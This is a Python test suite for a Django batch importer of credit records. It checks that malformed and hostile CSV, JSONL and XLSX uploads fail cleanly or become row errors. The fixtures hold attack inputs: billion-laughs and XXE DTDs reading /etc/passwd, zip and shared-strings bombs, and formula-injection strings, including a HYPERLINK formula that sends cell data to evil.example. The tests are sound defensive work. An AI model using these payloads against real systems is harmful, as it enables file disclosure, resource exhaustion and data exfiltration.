"""Bad files in every format: each batch ends (done or failed) with a message, its file deleted, no exception.

The malicious workbooks are built here from their XML parts (zipfile), so each is a few kilobytes.
"""

import datetime
import io
import json
import logging
import zipfile
from xml.sax.saxutils import escape

import pytest
import time_machine
from django.core.files.storage import default_storage
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import OperationalError
from django.test import override_settings
from openpyxl import load_workbook

from audit.models import AuditEvent
from audit.services import Actor
from records import batches
from records.batches import batch_create, batch_run, batches_watch
from records.choices import BatchState, Channel
from records.models import BatchRowError, CreditRecord, IngestBatch
from records.selectors import catalog_entries
from records.services import RecordError
from records.spreadsheets import UNSAVABLE, error_report_workbook, template_workbook
from tests.records.helpers import xzcf_item
from tests.records.test_batches import csv_bytes

pytestmark = pytest.mark.django_db

ACTOR = Actor.system("测试")
PASSWORD = "Pass-12345-x"
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
DOC_RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
CT = "application/vnd.openxmlformats-officedocument.spreadsheetml"
BILLION_LAUGHS = (
    '<!DOCTYPE lolz [<!ENTITY lol "lol">'
    + "".join(f'<!ENTITY lol{n} "{f"&lol{n - 1};" * 10 if n > 1 else "&lol;" * 10}">' for n in range(1, 10))
    + "]>"
)
XXE = '<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'


def codes():
    return [field.code for field in catalog_entries()["xzcf"].spec.fields]


def item_rows(n: int, **overrides):
    return [[xzcf_item(i, **overrides)["data"].get(code, "") for code in codes()] for i in range(n)]


def _cell(ref: str, value: str) -> str:
    return f'<c r="{ref}" t="inlineStr"><is><t>{escape(value)}</t></is></c>'


def _column(index: int) -> str:
    letters = ""
    while index:
        index, rest = divmod(index - 1, 26)
        letters = chr(65 + rest) + letters
    return letters


def xlsx(
    rows: list[list[str]],
    *,
    dimension: str | None = None,
    shared_strings: str | None = None,
    doctype: dict[str, str] | None = None,
    sheet_xml: str | None = None,
    extra: dict[str, str] | None = None,
    overrides: str = "",
) -> bytes:
    """A minimal workbook: the header row of the xzcf codes, then ``rows``, as inline strings.

    ``shared_strings`` adds a shared-strings part with that XML; ``doctype`` puts a DOCTYPE at the top of the
    named parts; ``sheet_xml`` replaces the worksheet's XML; ``extra`` adds parts, ``overrides`` manifest entries."""
    table = [codes(), *rows]
    body = "".join(
        f'<row r="{r}">' + "".join(_cell(f"{_column(c)}{r}", v) for c, v in enumerate(row, 1) if v != "") + "</row>"
        for r, row in enumerate(table, 1)
    )
    ref = dimension or f"A1:{_column(len(codes()))}{len(table)}"
    parts = {
        "[Content_Types].xml": (
            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            f'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            f'<Override PartName="/xl/workbook.xml" ContentType="{CT}.sheet.main+xml"/>'
            f'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="{CT}.worksheet+xml"/>'
            + (
                f'<Override PartName="/xl/strings.xml" ContentType="{CT}.sharedStrings+xml"/>'
                if shared_strings is not None
                else ""
            )
            + overrides
            + "</Types>"
        ),
        "_rels/.rels": (
            f'<Relationships xmlns="{RELS}"><Relationship Id="rId1" '
            f'Type="{DOC_RELS}/officeDocument" Target="xl/workbook.xml"/></Relationships>'
        ),
        "xl/workbook.xml": (
            f'<workbook xmlns="{MAIN}" xmlns:r="{DOC_RELS}">'
            '<sheets><sheet name="S" sheetId="1" r:id="rId1"/></sheets></workbook>'
        ),
        "xl/_rels/workbook.xml.rels": (
            f'<Relationships xmlns="{RELS}">'
            f'<Relationship Id="rId1" Type="{DOC_RELS}/worksheet" Target="worksheets/sheet1.xml"/>'
            + (
                f'<Relationship Id="rId2" Type="{DOC_RELS}/sharedStrings" Target="strings.xml"/>'
                if shared_strings is not None
                else ""
            )
            + "</Relationships>"
        ),
        "xl/worksheets/sheet1.xml": sheet_xml
        or f'<worksheet xmlns="{MAIN}"><dimension ref="{ref}"/><sheetData>{body}</sheetData></worksheet>',
    }
    if shared_strings is not None:
        parts["xl/strings.xml"] = shared_strings  # an unusual name: found by its content type, as openpyxl does
    parts.update(extra or {})
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, xml in parts.items():
            prolog = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>' + (doctype or {}).get(name, "")
            archive.writestr(name, prolog + xml)
    return buffer.getvalue()


def send(department, capture, name, content, *, record_type="xzcf", channel=Channel.BATCH):
    """Upload, run the task as the worker would, and return the batch as it ended, with its stored file name."""
    with capture(execute=True):
        batch = batch_create(
            department=department,
            upload=SimpleUploadedFile(name, content),
            record_type_code=record_type,
            channel=channel,
            actor=ACTOR,
        )
    stored = batch.file.name
    batch.refresh_from_db()
    return batch, stored


def assert_failed(batch, stored, *words):
    assert batch.state == BatchState.FAILED
    for word in words:
        assert word in batch.message
    assert not batch.file
    assert not default_storage.exists(stored)
    assert not CreditRecord.objects.exists()


def assert_done(batch, stored, counts):
    assert batch.state == BatchState.DONE
    assert batch.counts == counts
    assert batch.message.startswith("导入完成")
    assert not batch.file
    assert not default_storage.exists(stored)


# Bad bytes, rows and sizes: row errors; the rest of the file goes in ----------------------------------------

GOOD = "长春测试1商贸有限公司"


def _csv(**changes):
    content = csv_bytes([xzcf_item(0), xzcf_item(1)], encoding="utf-8")
    for old, new in changes.items():
        content = content.replace(old.encode() if isinstance(old, str) else old, new)
    return content


@pytest.mark.parametrize(
    ("content", "field", "words"),
    [
        pytest.param(
            lambda: _csv(**{GOOD: b"\xff\xfe" + GOOD.encode()}), "CF_XDR_MC", "无法保存的字符", id="bad-utf8-byte"
        ),
        pytest.param(lambda: _csv(**{GOOD: b"\x00" + GOOD.encode()}), "CF_XDR_MC", "无法保存的字符", id="nul-byte"),
        pytest.param(lambda: _csv(**{GOOD: b"\x07" + GOOD.encode()}), "CF_XDR_MC", "控制字符", id="control-char"),
        pytest.param(
            lambda: csv_bytes([xzcf_item(0), xzcf_item(1, CF_NR="x" * 200_000)], encoding="utf-8"),
            "CF_NR",
            "超过131072个字符",
            id="field-over-128k",
        ),
    ],
)
def test_a_bad_cell_in_a_csv_is_a_row_error(department, django_capture_on_commit_callbacks, content, field, words):
    batch, stored = send(department, django_capture_on_commit_callbacks, "a.csv", content())
    assert_done(batch, stored, {"created": 1, "rejected": 1})
    error = BatchRowError.objects.get(batch=batch)
    assert error.row_number == 3
    assert words in error.errors[field][0]
    assert not any(UNSAVABLE.search(value) for value in error.data.values())  # stored, so PostgreSQL takes it


def test_a_utf8_file_with_one_bad_byte_is_not_read_as_gbk(department, django_capture_on_commit_callbacks):
    """GB18030 decodes almost any bytes: a UTF-8 file with one stray byte would import as nonsense."""
    content = _csv(**{"长春测试0商贸有限公司": "长春测试0商贸有限公司".encode() + b"\x80"})
    batch, stored = send(department, django_capture_on_commit_callbacks, "a.csv", content)
    assert_done(batch, stored, {"created": 1, "rejected": 1})
    assert CreditRecord.objects.get().data["CF_XDR_MC"] == "长春测试1商贸有限公司"


def test_a_gbk_file_is_still_read_as_gbk(department, django_capture_on_commit_callbacks):
    batch, stored = send(department, django_capture_on_commit_callbacks, "a.csv", csv_bytes([xzcf_item(0)]))
    assert_done(batch, stored, {"created": 1})
    assert CreditRecord.objects.get().data["CF_XDR_MC"] == "长春测试0商贸有限公司"


def test_a_row_with_too_many_columns_is_a_row_error(department, django_capture_on_commit_callbacks):
    lines = csv_bytes([xzcf_item(0), xzcf_item(1)], encoding="utf-8").decode().splitlines()
    lines[2] += ",多出来的,一列"
    batch, stored = send(department, django_capture_on_commit_callbacks, "a.csv", "\n".join(lines).encode())
    assert_done(batch, stored, {"created": 1, "rejected": 1})
    error = BatchRowError.objects.get(batch=batch)
    assert error.row_number == 3
    assert "没有表头" in error.errors["row"][0]


@pytest.mark.parametrize(
    ("line", "words"),
    [
        pytest.param(lambda: b'{"record_type": "xzcf", "data": {"CF_XDR_MC": "\xff"}}', "UTF-8", id="bad-utf8"),
        pytest.param(lambda: json.dumps(xzcf_item(1, CF_XDR_MC="长春\x00公司")).encode(), "无法保存", id="nul"),
        pytest.param(lambda: json.dumps(xzcf_item(1, CF_NR="罚款\ud800")).encode(), "无法保存", id="lone-surrogate"),
        pytest.param(lambda: b"[" * 100_000, "嵌套层级过深", id="deep-nesting"),
        pytest.param(lambda: b'{"record_type": "xzcf", "data": {"CF_NR_FK": NaN}}', "不是有效的 JSON", id="nan"),
        pytest.param(lambda: b"1" * 5000, "不是有效的 JSON", id="huge-number"),
        pytest.param(lambda: b'{"record_type": ["x"], "data": {}}', "应为字符串", id="type-not-text"),
    ],
)
def test_a_bad_jsonl_line_is_a_row_error(department, django_capture_on_commit_callbacks, line, words):
    content = json.dumps(xzcf_item(0), ensure_ascii=False).encode() + b"\n" + line() + b"\n"
    batch, stored = send(department, django_capture_on_commit_callbacks, "a.jsonl", content, record_type="")
    assert_done(batch, stored, {"created": 1, "rejected": 1})
    error = BatchRowError.objects.get(batch=batch)
    assert error.row_number == 2
    assert words in json.dumps(error.errors, ensure_ascii=False)
    assert not any(UNSAVABLE.search(value) for value in error.data.values())


@pytest.mark.parametrize("code", ["x\x00", "xzcf\ud800", "x" * 200])
def test_a_record_type_that_cannot_be_looked_up_is_refused(department, code):
    with pytest.raises(RecordError, match="有效的记录类型"):
        batch_create(
            department=department,
            upload=SimpleUploadedFile("a.csv", b"x"),
            record_type_code=code,
            channel=Channel.BATCH,
            actor=ACTOR,
        )


def test_an_empty_file_is_refused_at_once(department):
    with pytest.raises(RecordError, match="文件为空"):
        batch_create(
            department=department,
            upload=SimpleUploadedFile("a.csv", b""),
            record_type_code="xzcf",
            channel=Channel.BATCH,
            actor=ACTOR,
        )
    assert not IngestBatch.objects.exists()


@pytest.mark.parametrize(
    ("name", "record_type", "content", "words"),
    [
        pytest.param("a.csv", "xzcf", b"\r\n \r\n", "文件为空", id="csv"),
        pytest.param("a.jsonl", "", b"\n  \n", "没有数据行", id="jsonl"),
    ],
)
def test_a_file_of_blank_lines_fails(department, django_capture_on_commit_callbacks, name, record_type, content, words):
    batch, stored = send(department, django_capture_on_commit_callbacks, name, content, record_type=record_type)
    assert_failed(batch, stored, words)


@pytest.mark.parametrize(
    ("content", "words"),
    [
        pytest.param(lambda: _csv(**{"处罚类别": "违法行为类型".encode()}), "表头重复", id="duplicate-column"),
        pytest.param(lambda: b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)), "表头无法识别", id="binary"),
    ],
)
def test_a_csv_that_cannot_be_read_fails_with_a_message(department, django_capture_on_commit_callbacks, content, words):
    batch, stored = send(department, django_capture_on_commit_callbacks, "a.csv", content())
    assert_failed(batch, stored, words)


def test_a_header_only_file_fails_with_a_message(department, django_capture_on_commit_callbacks):
    header = csv_bytes([], encoding="utf-8")
    batch, stored = send(department, django_capture_on_commit_callbacks, "a.csv", header)
    assert_failed(batch, stored, "没有数据行")
    batch, stored = send(department, django_capture_on_commit_callbacks, "a.xlsx", xlsx([]))
    assert_failed(batch, stored, "没有数据行")


@pytest.mark.parametrize(
    ("change", "field", "words"),
    [
        pytest.param(lambda row: row.__setitem__(codes().index("CF_NR"), "x" * 200_000), "CF_NR", "超过", id="long"),
        pytest.param(lambda row: row.extend(["", "多出来的"]), "row", "没有表头", id="too-many-columns"),
    ],
)
def test_a_bad_cell_in_a_workbook_is_a_row_error(department, django_capture_on_commit_callbacks, change, field, words):
    rows = item_rows(2)
    change(rows[1])
    batch, stored = send(department, django_capture_on_commit_callbacks, "a.xlsx", xlsx(rows))
    assert_done(batch, stored, {"created": 1, "rejected": 1})
    error = BatchRowError.objects.get(batch=batch)
    assert error.row_number == 3
    assert words in error.errors[field][0]
    assert len(json.dumps(error.data)) < 20_000  # the long value is not kept whole


@override_settings(BATCH_MAX_ROWS=5)
def test_a_file_over_the_row_cap_fails_before_anything_is_imported(department, django_capture_on_commit_callbacks):
    batch, stored = send(department, django_capture_on_commit_callbacks, "a.xlsx", xlsx(item_rows(6)))
    assert_failed(batch, stored, "5行")
    batch, stored = send(department, django_capture_on_commit_callbacks, "a.xlsx", xlsx(item_rows(5)))
    assert_done(batch, stored, {"created": 5})


# Workbooks that are not, or not only, workbooks: a failed batch with a clear message ---------------------------


def _truncated():
    content = xlsx(item_rows(3))
    return content[: len(content) * 2 // 3]


SST = f'<sst xmlns="{MAIN}"><si><t>&lol9;</t></si></sst>'
SHEET = "xl/worksheets/sheet1.xml"


def _bad_bytes_in_a_cell(bad: bytes) -> bytes:
    """An XML-level fault in one cell: the parser cannot go on past it, so the whole file is refused."""
    source = zipfile.ZipFile(io.BytesIO(xlsx(item_rows(2))))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name in source.namelist():
            data = source.read(name)
            if name == SHEET:
                data = data.replace("长春测试1".encode(), "长春测试1".encode() + bad, 1)
            archive.writestr(name, data)
    return buffer.getvalue()


def _zip_of_text():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("readme.txt", "not a workbook")
    return buffer.getvalue()


@pytest.mark.parametrize(
    ("content", "words"),
    [
        pytest.param(lambda: b"just some text", "不是有效的 XLSX", id="txt-renamed"),
        pytest.param(lambda: csv_bytes([xzcf_item(1)]), "不是有效的 XLSX", id="csv-renamed"),
        pytest.param(lambda: _zip_of_text(), "不是有效的 XLSX", id="zip-not-a-workbook"),
        pytest.param(lambda: _truncated(), "XLSX", id="truncated"),
        pytest.param(
            lambda: xlsx([], shared_strings=SST, doctype={"xl/strings.xml": BILLION_LAUGHS}), "DTD", id="laughs-sst"
        ),
        pytest.param(
            lambda: xlsx(item_rows(1), doctype={"xl/worksheets/sheet1.xml": BILLION_LAUGHS}), "DTD", id="laughs"
        ),
        pytest.param(lambda: xlsx(item_rows(1), doctype={"xl/worksheets/sheet1.xml": XXE}), "DTD", id="xxe-sheet"),
        pytest.param(lambda: xlsx(item_rows(1), doctype={"xl/workbook.xml": XXE}), "DTD", id="xxe-workbook"),
        pytest.param(lambda: xlsx(item_rows(1), doctype={"[Content_Types].xml": XXE}), "DTD", id="xxe-content-types"),
        pytest.param(
            lambda: xlsx([], sheet_xml=f'<worksheet xmlns="{MAIN}"><sheetData><row r="1">'), "XLSX", id="bad-xml"
        ),
        pytest.param(lambda: _bad_bytes_in_a_cell(b"\xff"), "已损坏", id="bad-utf8-byte"),
        pytest.param(lambda: _bad_bytes_in_a_cell(b"\x00"), "已损坏", id="nul-byte"),
        pytest.param(lambda: _bad_bytes_in_a_cell(b"&#0;"), "已损坏", id="nul-reference"),
        pytest.param(lambda: _bad_bytes_in_a_cell(b"&#xD800;"), "已损坏", id="lone-surrogate-reference"),
    ],
)
def test_a_bad_workbook_fails_with_a_message(department, django_capture_on_commit_callbacks, content, words):
    batch, stored = send(department, django_capture_on_commit_callbacks, "a.xlsx", content())
    assert_failed(batch, stored, words)


def test_xxe_does_not_leak_a_file_into_the_rows(department, django_capture_on_commit_callbacks):
    sheet = (
        f'<worksheet xmlns="{MAIN}"><sheetData><row r="1">'
        + "".join(_cell(f"{_column(c)}1", code) for c, code in enumerate(codes(), 1))
        + '</row><row r="2"><c r="A2" t="inlineStr"><is><t>&xxe;</t></is></c></row></sheetData></worksheet>'
    )
    content = xlsx([], sheet_xml=sheet, doctype={"xl/worksheets/sheet1.xml": XXE})
    batch, _ = send(department, django_capture_on_commit_callbacks, "a.xlsx", content)
    assert batch.state == BatchState.FAILED
    assert not BatchRowError.objects.filter(data__icontains="root:").exists()


def test_rows_beyond_the_declared_dimension_are_read(department, django_capture_on_commit_callbacks):
    """openpyxl's read-only mode stops at the row <dimension> names: 50 rows once imported as 1."""
    content = xlsx(item_rows(50), dimension="A1:A1")
    batch, stored = send(department, django_capture_on_commit_callbacks, "a.xlsx", content)
    assert batch.total_rows == 50
    assert_done(batch, stored, {"created": 50})


def test_a_worksheet_claiming_rows_beyond_excel_fails(department, django_capture_on_commit_callbacks):
    header = "".join(_cell(f"{_column(c)}1", code) for c, code in enumerate(codes(), 1))
    sheet = (
        f'<worksheet xmlns="{MAIN}"><sheetData><row r="1">{header}</row>'
        f'<row r="9999999999"><c r="A9999999999" t="inlineStr"><is><t>x</t></is></c></row></sheetData></worksheet>'
    )
    batch, stored = send(department, django_capture_on_commit_callbacks, "a.xlsx", xlsx([], sheet_xml=sheet))
    assert_failed(batch, stored, "1048576")


# Bombs: parsed in the worker, bounded ---------------------------------------------------------------------------


def _shared_strings_bomb(count: int) -> bytes:
    sst = f'<sst xmlns="{MAIN}">' + "<si><t>a</t></si>" * count + "</sst>"
    return xlsx(item_rows(1), shared_strings=sst)


@override_settings(BATCH_XLSX_MAX_SHARED_STRINGS_BYTES=64 * 1024)
def test_a_shared_strings_bomb_fails_in_the_worker(department, django_capture_on_commit_callbacks):
    content = _shared_strings_bomb(10_000)  # 170 KB of XML in a 2 KB file
    assert len(content) < 4_000
    batch, stored = send(department, django_capture_on_commit_callbacks, "a.xlsx", content)
    assert_failed(batch, stored, "共享字符串", "0 MB")


@override_settings(BATCH_XLSX_MAX_UNZIPPED_BYTES=64 * 1024)
def test_a_workbook_inflating_past_the_cap_fails(department, django_capture_on_commit_callbacks):
    content = xlsx(item_rows(1, CF_SY="经查" * 40_000))
    assert len(content) < 8_000
    batch, stored = send(department, django_capture_on_commit_callbacks, "a.xlsx", content)
    assert_failed(batch, stored, "解压后超过")


STYLES = (
    f'<styleSheet xmlns="{MAIN}"><cellXfs count="2000">'
    + '<xf numFmtId="0" fontId="0" fillId="0" borderId="0" xfId="0"/>' * 2000
    + "</cellXfs></styleSheet>"
)


@pytest.mark.parametrize(
    "overrides",
    [
        pytest.param("", id="styles"),
        pytest.param(f'<Override PartName="/xl/styles.xml" ContentType="{CT}.worksheet+xml"/>', id="styles-as-sheet"),
    ],
)
def test_a_large_part_held_in_memory_fails_and_a_large_worksheet_does_not(
    department, monkeypatch, django_capture_on_commit_callbacks, overrides
):
    from records import spreadsheets

    monkeypatch.setattr(spreadsheets, "XLSX_PART_MAX_BYTES", 32 * 1024)
    content = xlsx(item_rows(60))  # its worksheet is streamed, whatever its size
    assert len(zipfile.ZipFile(io.BytesIO(content)).read(SHEET)) > 32 * 1024
    batch, stored = send(department, django_capture_on_commit_callbacks, "a.xlsx", content)
    assert_done(batch, stored, {"created": 60})
    content = xlsx(item_rows(1), extra={"xl/styles.xml": STYLES}, overrides=overrides)  # 130 KB of styles
    batch, stored = send(department, django_capture_on_commit_callbacks, "a.xlsx", content)
    assert (batch.state, batch.file.name, default_storage.exists(stored)) == (BatchState.FAILED, "", False)
    assert "样式" in batch.message


def test_the_api_stores_and_queues_without_opening_the_workbook(api, monkeypatch, django_capture_on_commit_callbacks):
    """The web request never reads the file: an XLSX bomb costs it nothing."""

    class NoZipInTheRequest(zipfile.ZipFile):
        def __init__(self, *args, **kwargs):
            raise AssertionError("the request opened the workbook")

    bomb = _shared_strings_bomb(1000)
    monkeypatch.setattr(zipfile, "ZipFile", NoZipInTheRequest)
    response = api.post("/api/v1/batches/", {"file": SimpleUploadedFile("a.xlsx", bomb), "record_type": "xzcf"})
    assert response.status_code == 202, response.content
    body = response.json()
    assert (body["state"], body["total_rows"]) == ("queued", 0)
    monkeypatch.undo()
    with django_capture_on_commit_callbacks(execute=True), override_settings(BATCH_XLSX_MAX_SHARED_STRINGS_BYTES=1024):
        batch_run(body["id"])
    assert api.get(f"/api/v1/batches/{body['id']}/").json()["state"] == "failed"


@pytest.fixture
def clerk(client, department):
    from django.db import transaction

    from organisations.services import staff_create

    with transaction.atomic():
        staff_create(username="clerk", password=PASSWORD, role="clerk", department_code=department.code, actor=ACTOR)
    assert client.login(username="clerk", password=PASSWORD)
    return client


def test_the_upload_page_stores_and_queues_without_reading_the_file(clerk, monkeypatch):
    client = clerk
    monkeypatch.setattr(batches, "read_rows", lambda *a, **k: pytest.fail("the request read the file"))
    monkeypatch.setattr(batches, "rows_count", lambda *a, **k: pytest.fail("the request read the file"))
    response = client.post(
        "/workbench/uploads/", {"record_type": "xzcf", "file": SimpleUploadedFile("p.xlsx", b"not a workbook")}
    )
    assert response.status_code == 302
    assert IngestBatch.objects.get().state == BatchState.QUEUED


def test_the_api_refuses_a_body_over_the_cap_by_its_length(api, settings):
    settings.BATCH_MAX_BYTES = 1024
    response = api.post(
        "/api/v1/batches/", {"file": SimpleUploadedFile("a.csv", b"x" * 200_000), "record_type": "xzcf"}
    )
    assert response.status_code == 413
    assert "上限" in response.json()["detail"]
    assert not IngestBatch.objects.exists()


# Failures that are not the file's ---------------------------------------------------------------------------------


def test_a_row_the_database_refuses_is_a_row_error_and_the_others_go_in(
    department, monkeypatch, django_capture_on_commit_callbacks
):
    real = batches.records_ingest

    def refusing(**kwargs):
        if any(item.data.get("CF_WSH", "").endswith("〔2026〕1号") for item in kwargs["items"]):
            raise ValueError("a value the checks did not foresee: 110101199003071234")
        return real(**kwargs)

    monkeypatch.setattr(batches, "records_ingest", refusing)
    content = csv_bytes([xzcf_item(n) for n in range(3)], encoding="utf-8")
    batch, stored = send(department, django_capture_on_commit_callbacks, "a.csv", content)
    assert_done(batch, stored, {"created": 2, "rejected": 1})
    assert BatchRowError.objects.get(batch=batch).errors == {"row": [batches.ROW_SYSTEM_ERROR]}


def test_an_unexpected_failure_ends_the_batch_and_logs_no_data(
    department, monkeypatch, caplog, django_capture_on_commit_callbacks
):
    citizen_id = "110101" + "199003071234"  # as a row's value would be: in the message, not in the code

    def broken(*args, **kwargs):
        raise RuntimeError(f"boom {citizen_id}")

    monkeypatch.setattr(batches, "rows_count", broken)
    with caplog.at_level(logging.ERROR, logger="records.batches"):
        batch, stored = send(department, django_capture_on_commit_callbacks, "a.csv", csv_bytes([xzcf_item(1)]))
    assert_failed(batch, stored, "系统错误")
    assert "RuntimeError" in caplog.text
    assert "110101199003071234" not in caplog.text
    assert AuditEvent.objects.filter(action="batch.fail", object_id=str(batch.pk)).exists()


def test_a_transient_database_error_leaves_the_batch_for_a_retry(department, monkeypatch):
    batch = batch_create(
        department=department,
        upload=SimpleUploadedFile("a.csv", csv_bytes([xzcf_item(1)])),
        record_type_code="xzcf",
        channel=Channel.BATCH,
        actor=ACTOR,
    )

    def away(**kwargs):
        raise OperationalError("server closed the connection unexpectedly")

    monkeypatch.setattr(batches, "records_ingest", away)
    with pytest.raises(OperationalError):
        batch_run(batch.pk)
    batch.refresh_from_db()
    assert batch.state == BatchState.IMPORTING
    assert default_storage.exists(batch.file.name)
    monkeypatch.undo()
    assert batch_run(batch.pk).state == BatchState.DONE


# The watchdog ------------------------------------------------------------------------------------------------------

START = datetime.datetime(2026, 6, 1, 9, tzinfo=datetime.UTC)


def counts(**changes):
    return {"redriven": 0, "failed": 0, "files_deleted": 0, **changes}


def _stuck_batch(department, monkeypatch):
    """A batch whose task message was lost: it stays queued, its file kept."""
    from records import tasks

    monkeypatch.setattr(tasks.batch_process_task, "delay", lambda *args: None)
    with time_machine.travel(START, tick=False):
        return batch_create(
            department=department,
            upload=SimpleUploadedFile("a.csv", csv_bytes([xzcf_item(1)])),
            record_type_code="xzcf",
            channel=Channel.BATCH,
            actor=ACTOR,
        )


def test_the_watchdog_queues_a_stalled_batch_once_and_it_finishes(
    department, monkeypatch, django_capture_on_commit_callbacks
):
    batch = _stuck_batch(department, monkeypatch)
    monkeypatch.undo()
    with time_machine.travel(START + datetime.timedelta(minutes=59), tick=False):
        assert batches_watch(actor=ACTOR) == counts()  # not yet stalled
    with (
        time_machine.travel(START + datetime.timedelta(minutes=61), tick=False),
        django_capture_on_commit_callbacks(execute=True),
    ):
        assert batches_watch(actor=ACTOR) == counts(redriven=1)
    stored = batch.file.name
    batch.refresh_from_db()
    assert_done(batch, stored, {"created": 1})
    assert AuditEvent.objects.filter(action="batch.redrive", object_id=str(batch.pk)).exists()


def test_the_watchdog_fails_a_batch_that_stalls_again_and_deletes_its_file(
    department, monkeypatch, django_capture_on_commit_callbacks
):
    from records.tasks import batches_watchdog_task

    batch = _stuck_batch(department, monkeypatch)  # and every later message is lost too
    stored = batch.file.name
    for minutes, expected in [(61, counts(redriven=1)), (100, counts())]:
        with (
            time_machine.travel(START + datetime.timedelta(minutes=minutes), tick=False),
            django_capture_on_commit_callbacks(execute=True),
        ):
            assert batches_watchdog_task() == expected
    assert default_storage.exists(stored)
    with time_machine.travel(START + datetime.timedelta(minutes=122), tick=False):
        with django_capture_on_commit_callbacks(execute=True):
            assert batches_watchdog_task() == counts(failed=1)
        with django_capture_on_commit_callbacks(execute=True):
            assert batches_watchdog_task() == counts()  # twice changes nothing more
    batch.refresh_from_db()
    assert_failed(batch, stored, "处理中断", "请重新上传")
    assert batch_run(batch.pk).state == BatchState.FAILED  # a late delivery of the task does nothing


def test_the_watchdog_deletes_a_file_an_ended_batch_kept(department, django_capture_on_commit_callbacks):
    batch, stored = send(department, django_capture_on_commit_callbacks, "a.csv", csv_bytes([xzcf_item(1)]))
    default_storage.save(stored, io.BytesIO(b"left behind by a storage error"))
    IngestBatch.objects.filter(pk=batch.pk).update(file=stored)
    assert batches_watch(actor=ACTOR) == counts(files_deleted=1)
    assert not default_storage.exists(stored)
    batch.refresh_from_db()
    assert (batch.state, batch.file.name) == (BatchState.DONE, "")


def test_a_task_stops_when_the_watchdog_has_closed_its_batch(department, monkeypatch):
    monkeypatch.setattr(batches, "CHUNK_SIZE", 1)
    batch = batch_create(
        department=department,
        upload=SimpleUploadedFile("a.csv", csv_bytes([xzcf_item(n) for n in range(3)])),
        record_type_code="xzcf",
        channel=Channel.BATCH,
        actor=ACTOR,
    )
    real = batches.records_ingest

    def closed_after_the_first_chunk(**kwargs):
        results = real(**kwargs)
        IngestBatch.objects.filter(pk=batch.pk).update(state=BatchState.FAILED, message="看护已终止")
        return results

    monkeypatch.setattr(batches, "records_ingest", closed_after_the_first_chunk)
    assert batch_run(batch.pk).state == BatchState.FAILED
    assert CreditRecord.objects.count() == 1


def test_the_watchdog_is_scheduled():
    from django.conf import settings

    assert "records.tasks.batches_watchdog_task" in {e["task"] for e in settings.CELERY_BEAT_SCHEDULE.values()}


# Error reports and templates: formulas stay text -------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "=1+1"]


def _cells_and_xml(content: bytes):
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    return sheet, xml


def test_the_error_report_writes_formulas_as_text():
    spec = catalog_entries()["xzcf"].spec
    rows = [(n, {"CF_XDR_MC": value}, {"CF_XDR_MC": [f"名称“{value}”有误"]}) for n, value in enumerate(FORMULAS, 2)]
    sheet, xml = _cells_and_xml(error_report_workbook(spec, rows))
    assert "<f>" not in xml
    for row, value in enumerate(FORMULAS, start=2):
        cell = sheet.cell(row=row, column=3)
        assert (cell.value, cell.data_type) == (value, "s")
        assert cell.quotePrefix
        assert sheet.cell(row=row, column=2).data_type == "s"


def test_the_template_writes_formulas_as_text():
    spec = catalog_entries()["xzcf"].spec
    content = template_workbook(spec, "行政处罚", {"CF_XDR_MC": '=HYPERLINK("http://evil.example")'})
    workbook = load_workbook(io.BytesIO(content))
    notes = workbook["填写说明"]
    cell = next(c for c in notes["F"] if c.value and str(c.value).startswith("="))
    assert cell.data_type == "s"
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        assert all("<f>" not in archive.read(name).decode() for name in archive.namelist() if "worksheets" in name)


def test_the_downloaded_error_report_of_a_formula_row_is_inert(clerk, django_capture_on_commit_callbacks):
    client = clerk
    content = csv_bytes([xzcf_item(1, CF_WFXW=FORMULAS[0], CF_CFLB="=1+1")])
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(
            "/workbench/uploads/", {"record_type": "xzcf", "file": SimpleUploadedFile("p.csv", content)}
        )
    report = client.get(response["Location"] + "errors.xlsx")
    sheet, xml = _cells_and_xml(report.content)
    assert "<f>" not in xml
    assert FORMULAS[0] in [cell.value for cell in sheet[2]]
    detail = client.get(response["Location"])
    assert "没有有效行" in detail.text
